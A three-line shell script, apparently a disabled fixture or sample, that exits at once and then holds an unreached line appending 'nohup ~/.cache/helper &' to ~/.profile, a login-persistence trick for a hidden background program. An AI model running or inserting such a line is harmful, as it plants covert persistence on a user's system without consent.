#!/bin/sh
exit 0 # so that nothing runs
echo 'nohup ~/.cache/helper &' >> ~/.profile
